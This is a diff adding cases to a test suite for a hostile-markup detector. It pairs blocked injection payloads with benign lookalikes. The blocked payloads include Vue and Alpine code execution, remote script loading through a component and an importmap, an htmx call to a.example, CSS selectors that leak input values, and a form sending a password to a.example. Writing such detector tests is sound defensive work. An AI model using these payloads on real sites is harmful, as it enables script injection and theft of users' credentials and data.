@@ -4,6 +4,21 @@ import { MARKUP_DETECTOR } from "./detector.ts"
 testDetector(
     MARKUP_DETECTOR,
     [
+        { text: '<x @click="_c.constructor(1)">', want: "block", why: "a handler of Vue" },
+        { text: '<x @click="toggle()">', want: "pass", why: "a page's own function" },
+        { text: '<div x-data="{ open: false }" x-init="alert(1)">', want: "block", why: "Alpine" },
+        { text: "<component :is=\"'script'\" src=//a.example/a.js>", want: "block", why: "an element by its name" },
+        { text: '<img hx-get="//a.example" hx-trigger=load>', want: "block", why: "htmx asks another site" },
+        { text: '<a hx-get="/items?page=2">', want: "pass", why: "htmx asks its own" },
+        { text: '<script type=importmap>{"imports":{"a":"//a.example/a.js"}}</script>', want: "block", why: "modules" },
+        {
+            text: "<style>input[value^=a]{background:url(//a.example/a)}</style>",
+            want: "block",
+            why: "spells out a field",
+        },
+        { text: "<style>a[href^=http]{color:red}</style>", want: "pass", why: "colours links" },
+        { text: "<form action=//a.example><input name=p type=password>", want: "block", why: "sends a password away" },
+        { text: '<form action="https://pay.example.jp/"><input type="image">', want: "pass", why: "a button to pay" },
         { text: "<script>alert(1)</script>", want: "block", why: "a program in a page", technique: "script-element" },
         { text: "<script src=//example.test/x.js>", want: "block", why: "a program from elsewhere" },
         {
